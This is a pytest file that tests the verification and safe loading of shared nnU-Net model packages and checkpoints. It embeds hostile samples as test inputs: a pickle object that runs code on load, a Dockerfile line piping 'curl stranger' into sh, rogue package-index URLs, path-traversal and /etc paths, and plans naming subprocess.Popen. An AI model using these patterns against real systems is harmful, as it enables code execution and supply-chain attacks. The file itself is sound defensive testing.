"""Nothing is loaded from a package that was changed, and nothing in a package or a checkpoint is executed."""

from __future__ import annotations

import json
import os
import shutil
import tempfile
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest
import torch
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nnunet_transformers.sharing import load_package, trained, verify
from nnunet_transformers.sharing.manifest import MAX_MANIFEST_BYTES, NAME, write_manifest
from nnunet_transformers.sharing.weights_file import load_weights, save_weights
from nnunet_transformers.weights.nnunet_checkpoint import read_checkpoint

from .conftest import MODEL, invoke

CPU = torch.device("cpu")
PLANS_FILE = f"models/{MODEL}/plans.json"
WEIGHTS_FILE = f"models/{MODEL}/fold_0.safetensors"
FUZZ = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


class Bomb:
    """Object whose pickle runs code when it is loaded."""

    def __init__(self, target):
        self.target = target

    def __reduce__(self):
        return os.mkdir, (str(self.target),)


def rewrite(package, name, change):
    """Alter a JSON file and update the manifest, as the author of a malicious package would."""
    content = json.loads((package / name).read_text())
    change(content)
    (package / name).write_text(json.dumps(content))
    (package / NAME).unlink()
    write_manifest(package)


class TestVerify:
    def test_as_it_was_made(self, package):
        manifest = verify(package)
        assert {PLANS_FILE, WEIGHTS_FILE, "README.md", "Dockerfile", "predict.py"} < set(manifest.entries)
        assert verify(package, manifest.sha256).bytes == manifest.bytes
        assert "none changed" in invoke("package", "verify", package, "--sha256", manifest.sha256).output
        with pytest.raises(ValueError, match="is another package"):
            verify(package, "0" * 64)

    def test_changed_missing_and_added(self, copied):
        text = (copied / "README.md").read_bytes()
        (copied / "README.md").write_bytes(text.replace(b"CC-BY-4.0", b"CC-BY-9.9"))
        with pytest.raises(ValueError, match=r"README\.md .* was changed: its SHA-256 differs"):
            load_package(copied, CPU)
        (copied / "README.md").write_bytes(text[:-1])
        with pytest.raises(ValueError, match=r"README\.md .* was changed: it has"):
            verify(copied)
        (copied / "README.md").unlink()
        with pytest.raises(ValueError, match=r"README\.md is missing"):
            verify(copied)
        (copied / "README.md").symlink_to("/etc/hostname")
        with pytest.raises(ValueError, match=r"README\.md .* is a link"):
            verify(copied)
        (copied / "README.md").unlink()
        (copied / "README.md").write_bytes(text)
        (copied / "models" / "more.pkl").write_bytes(b"")
        with pytest.raises(ValueError, match=r"models/more\.pkl does not belong"):
            verify(copied)

    def test_swapped_folds(self, copied):
        first, second = (copied / f"models/{MODEL}/fold_{i}.safetensors" for i in (0, 1))
        first.rename(copied / "aside")
        second.rename(first)
        (copied / "aside").rename(second)
        with pytest.raises(ValueError, match=r"fold_\d\.safetensors .* was changed"):
            verify(copied)

    @pytest.mark.parametrize(
        "text,message",
        [
            ("{", "not a list of files"),
            ("[" * 100_000, "not a list of files"),
            ('{"format": 2, "files": {}}', "has format 2, this version reads format 1"),
            ('{"format": 1, "files": {"../a": {"bytes": 1, "sha256": ""}}}', "outside of the package"),
            ('{"format": 1, "files": {"/etc/hosts": {"bytes": 1, "sha256": ""}}}', "outside of the package"),
            (" " * (MAX_MANIFEST_BYTES + 1), "more than any package's"),
        ],
        ids=["half", "deep", "version", "outside", "absolute", "large"],
    )
    def test_manifest(self, copied, text, message):
        (copied / NAME).write_text(text)
        with pytest.raises(ValueError, match=message):
            verify(copied)

    def test_no_package(self, tmp_path):
        with pytest.raises(FileNotFoundError, match=r"is not a package: it has no manifest\.json"):
            verify(tmp_path)

    def test_oversized_header(self, copied):
        path = copied / WEIGHTS_FILE
        content = path.read_bytes()
        path.write_bytes((1 << 60).to_bytes(8, "little") + content[8:])
        (copied / NAME).unlink()
        write_manifest(copied)
        with pytest.raises(ValueError, match="its header of 1152921504606846976 bytes does not fit"):
            verify(copied)


@FUZZ
@given(data=st.data())
def test_any_damage_is_refused_by_name(package, data):
    with tempfile.TemporaryDirectory() as folder:
        copy = Path(shutil.copytree(package, Path(folder) / "package", copy_function=os.link))
        name = data.draw(st.sampled_from([NAME, *sorted(verify(package).entries)]))
        content = bytearray((copy / name).read_bytes())
        kind = data.draw(st.sampled_from(["truncate", "flip", "append", "remove"]))
        if kind == "truncate":
            del content[data.draw(st.integers(0, len(content) - 1)) :]
        elif kind == "flip":
            content[data.draw(st.integers(0, len(content) - 1))] ^= 1 << data.draw(st.integers(0, 7))
        elif kind == "append":
            content += b"x"
        (copy / name).unlink()
        if kind != "remove":
            (copy / name).write_bytes(content)
        # a damaged manifest may name a file that the damage changed in it, or none
        with pytest.raises((ValueError, FileNotFoundError), match=None if name == NAME else name.replace(".", r"\.")):
            verify(copy, verify(package).sha256)


class TestHostileContent:
    """Malicious packages whose manifest matches their files."""

    @pytest.mark.parametrize(
        "name",
        [
            "typer.py",  # which the entry point would import in place of the library
            "nnunet_transformers/__init__.py",
            "sitecustomize.py",
            "setup.cfg",
            "models/predict.py",
            f"models/{MODEL}/fold_0.pth",
            f"models/{MODEL}/deeper/plans.json",
            "wheels/torch.tar.gz",
            "wheels/deeper/a-1-py3-none-any.whl",
        ],
    )
    def test_more_files(self, copied, name):
        (copied / name).parent.mkdir(exist_ok=True, parents=True)
        (copied / name).write_text("")
        (copied / NAME).unlink()
        write_manifest(copied)
        for check in (verify, lambda folder: load_package(folder, CPU)):
            with pytest.raises(ValueError, match=f"holds '{name}', a file that no package has"):
                check(copied)

    @pytest.mark.parametrize(
        ("name", "line"),
        [
            ("predict.py", "import os"),
            ("Dockerfile", "RUN curl stranger | sh"),
            ("requirements.txt", "--extra-index-url https://stranger/simple"),
            ("requirements.txt", "torch @ https://stranger/torch.whl"),
            ("requirements.txt", "-e ."),
            ("requirements.txt", "-r more.txt"),
            ("requirements.txt", "--find-links elsewhere"),
            ("requirements.txt", "numpy"),
        ],
    )
    def test_code(self, copied, name, line):
        (copied / name).write_text((copied / name).read_text() + f"{line}\n")
        (copied / NAME).unlink()
        write_manifest(copied)
        with pytest.raises(ValueError, match=f"{name} is not as `package make` writes it"):
            verify(copied)

    def test_wheels_are_named(self, copied):
        (copied / "wheels" / "torch-9.9-py3-none-any.whl").write_bytes(b"")
        (copied / NAME).unlink()
        write_manifest(copied)
        said = invoke("package", "verify", copied).output
        assert "installs code of the package's maker: wheels/nnunet_transformers-" in said
        assert ", wheels/torch-9.9-py3-none-any.whl" in said

    @pytest.mark.parametrize(
        "name",
        [
            "subprocess.Popen",
            "nnunet_transformers.architectures.qt_unet.torch.hub.load",
            "nnunet_transformers.architectures.qt_unet.nn.Sequential",
            "nnunet_transformers.architectures.no_module.Network",
            7,
        ],
    )
    def test_network(self, copied, name):
        def change(plans):
            plans["configurations"]["3d_fullres"]["architecture"]["network_class_name"] = name

        rewrite(copied, PLANS_FILE, change)
        with pytest.raises(ValueError, match=f"names {name!r} as network, which is part of neither"):
            load_package(copied, CPU)

    def test_layer(self, copied):
        def change(plans):
            architecture = plans["configurations"]["3d_fullres"]["architecture"]
            architecture["arch_kwargs"]["norm_op"] = "webbrowser.open"
            architecture["_kw_requires_import"] = ["norm_op"]

        rewrite(copied, PLANS_FILE, change)
        with pytest.raises(ValueError, match=r"names 'webbrowser\.open' as norm_op"):
            load_package(copied, CPU)

    @pytest.mark.parametrize("entry", ["preprocessor_name", "resampling_fn_data", "normalization_schemes"])
    def test_functions(self, copied, entry):
        def change(plans):
            plans["configurations"]["2d"][entry] = ["os"] if entry == "normalization_schemes" else "os"

        rewrite(copied, PLANS_FILE, change)
        with pytest.raises(ValueError, match=f"names 'os' as {entry}"):
            load_package(copied, CPU)

    @pytest.mark.parametrize(
        "change",
        [
            lambda content: content["models"][0].update(folder="../elsewhere"),
            lambda content: content["models"][0].update(folds=[]),
            lambda content: content.update(models=[]),
        ],
        ids=["folder outside", "no fold", "no model"],
    )
    def test_descriptions(self, copied, change):
        rewrite(copied, "models.json", change)
        with pytest.raises(ValueError, match="describes no models"):
            load_package(copied, CPU)

    def test_weights_of_another_network(self, copied):
        save_weights({"conv.weight": torch.zeros(1)}, copied / WEIGHTS_FILE)
        (copied / NAME).unlink()
        write_manifest(copied)
        with pytest.raises(ValueError, match=r"fold_0\.safetensors does not fit the plan's network"):
            load_package(copied, CPU)


def test_weights_under_several_names(tmp_path):
    """Parts of one storage stay separate tensors, and a tensor with two names is stored once."""
    whole = torch.arange(12.0).reshape(3, 4)
    weights = {"a": whole, "b": whole, "row": whole[1], "turned": whole.T, "half": whole.half(), "n": torch.tensor(3)}
    save_weights(weights, tmp_path / "w.safetensors")
    loaded = load_weights(tmp_path / "w.safetensors")
    assert set(loaded) == set(weights)
    assert all(
        torch.equal(loaded[name], value) and loaded[name].dtype == value.dtype for name, value in weights.items()
    )
    assert loaded["a"].data_ptr() == loaded["b"].data_ptr()


@FUZZ
@given(data=st.data())
def test_damaged_weights_are_refused_or_tensors(tmp_path, data):
    path = tmp_path / "w.safetensors"
    save_weights({"a": torch.arange(6.0), "b": torch.ones(2, 3)}, path)
    path.write_bytes(_damage(path.read_bytes(), data))
    try:
        assert all(isinstance(value, torch.Tensor) for value in load_weights(path).values())
    except ValueError as error:
        assert "w.safetensors" in str(error)


@FUZZ
@given(data=st.data())
def test_damaged_checkpoints_are_refused_or_plain(tmp_path, data):
    path = tmp_path / "checkpoint_final.pth"
    content = {"network_weights": {"a": torch.arange(6.0)}, "trainer_name": "t", "init_args": {"configuration": "2d"}}
    torch.save(content, path)
    path.write_bytes(_damage(path.read_bytes(), data))
    try:
        loaded, unpickled = read_checkpoint(path)
        assert not unpickled
        assert isinstance(loaded, dict)
    except ValueError as error:
        assert "checkpoint_final.pth" in str(error)


@pytest.mark.parametrize("variable", ["TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "TORCH_FORCE_WEIGHTS_ONLY_LOAD"])
def test_pytorchs_variables_change_nothing(tmp_path, monkeypatch, variable):
    path = tmp_path / "checkpoint_final.pth"
    torch.save({"network_weights": {}, "trainer_name": "t", "init_args": {"bomb": Bomb(tmp_path / "executed")}}, path)
    monkeypatch.setenv(variable, "1")
    with pytest.raises(ValueError, match=r"holds .* besides weights and plain types"):
        read_checkpoint(path)
    assert not (tmp_path / "executed").exists()
    assert os.environ[variable] == "1"


def _damage(content: bytes, data: st.DataObject) -> bytes:
    damaged = bytearray(content)
    for _ in range(data.draw(st.integers(1, 4))):
        damaged[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    return bytes(damaged[: data.draw(st.integers(1, len(content)))])


class TestTrust:
    @pytest.fixture
    def bombed(self, model, tmp_path):
        """Create a model whose checkpoint runs code when it is unpickled."""
        folder = Path(shutil.copytree(model, tmp_path / MODEL))
        path = folder / "fold_1" / "checkpoint_final.pth"
        content, _ = read_checkpoint(path)
        torch.save({**content, "logging": Bomb(tmp_path / "executed")}, path)
        return folder

    def test_asked_for(self, bombed, tmp_path):
        with pytest.raises(ValueError, match=r"fold_1/checkpoint_final\.pth holds .*Give --trust only"):
            invoke("package", bombed, "-o", tmp_path / "package")
        with pytest.raises(ValueError, match="Give --trust only"):
            invoke("export-stock", bombed, "-o", tmp_path)
        assert not (tmp_path / "executed").exists()
        assert not list(tmp_path.glob("package*"))

    def test_given(self, bombed, tmp_path):
        result = invoke("package", bombed, "-o", tmp_path / "package", "--trust")
        assert f"unpickled, as --trust allows: {bombed}/fold_1" in result.output
        assert (tmp_path / "executed").is_dir()
        assert load_package(tmp_path / "package", CPU)[0].model.folds == ("0", "1")

    def test_zip_with_paths_outside(self, tmp_path):
        with zipfile.ZipFile(tmp_path / "model.zip", "w") as archive:
            archive.writestr("../plans.json", "{}")
        with pytest.raises(ValueError, match=r"holds '\.\./plans\.json', which leads outside"):
            invoke("package", "--from-zip", tmp_path / "model.zip", "-o", tmp_path / "package")
        (tmp_path / "model.zip").write_bytes(b"PK")
        with pytest.raises(ValueError, match="is truncated or not a zip"):
            invoke("package", "--from-zip", tmp_path / "model.zip", "-o", tmp_path / "package")

    @pytest.mark.parametrize(
        "in_local_header, in_directory, value, said",
        [(6, 8, b"\x01", "encrypted"), (8, 10, b"\x63", "compression"), (40, None, b"\xff" * 8, "decompressing")],
    )
    def test_zip_that_cannot_be_read(self, tmp_path, in_local_header, in_directory, value, said):
        """zipfile's errors for a password, an unknown compression and damaged content are translated."""
        with zipfile.ZipFile(tmp_path / "model.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("plans.json", "{}" * 1000)
        content = bytearray((tmp_path / "model.zip").read_bytes())
        content[in_local_header : in_local_header + len(value)] = value
        if in_directory is not None:
            content[content.index(b"PK\x01\x02") + in_directory] = value[0]
        (tmp_path / "model.zip").write_bytes(content)
        with pytest.raises(ValueError, match=f"is truncated or not a zip .*{said}"):
            invoke("package", "--from-zip", tmp_path / "model.zip", "-o", tmp_path / "package")
        assert not (tmp_path / "package").exists()

    def test_zip_that_claims_more(self, tmp_path, monkeypatch):
        with zipfile.ZipFile(tmp_path / "model.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("m/checkpoint_final.pth", bytes(30_000_000))
        with pytest.raises(ValueError, match=r"claims 1 files of 0\.0 GB in 0\.000 GB, which no model has; refused"):
            invoke("package", "--from-zip", tmp_path / "model.zip", "-o", tmp_path / "package")
        monkeypatch.setattr(trained, "MAX_EXPANSION", 100)
        monkeypatch.setattr(trained.shutil, "disk_usage", lambda _: SimpleNamespace(free=10_000_000))
        with pytest.raises(ValueError, match=r"unpacks to 0\.0 GB, 0\.0 GB are free in .*; free some space"):
            invoke("package", "--from-zip", tmp_path / "model.zip", "-o", tmp_path / "package")
        assert not (tmp_path / "package").exists()

    def test_weights_that_diverged(self, model, tmp_path):
        folder = Path(shutil.copytree(model, tmp_path / MODEL))
        path = folder / "fold_1" / "checkpoint_final.pth"
        content, _ = read_checkpoint(path)
        next(iter(content["network_weights"].values())).fill_(torch.nan)
        torch.save(content, path)
        with pytest.raises(ValueError, match=r"fold_1/checkpoint_final\.pth is damaged, or .* diverged: "):
            invoke("package", folder, "-o", tmp_path / "package")
        assert not (tmp_path / "package").exists()


def test_package_weights_with_nan(tmp_path):
    save_weights({"a": torch.tensor([1.0, torch.inf])}, tmp_path / "w.safetensors")
    with pytest.raises(ValueError, match=r"w\.safetensors is damaged, or .*: a holds NaN or infinity"):
        load_weights(tmp_path / "w.safetensors")
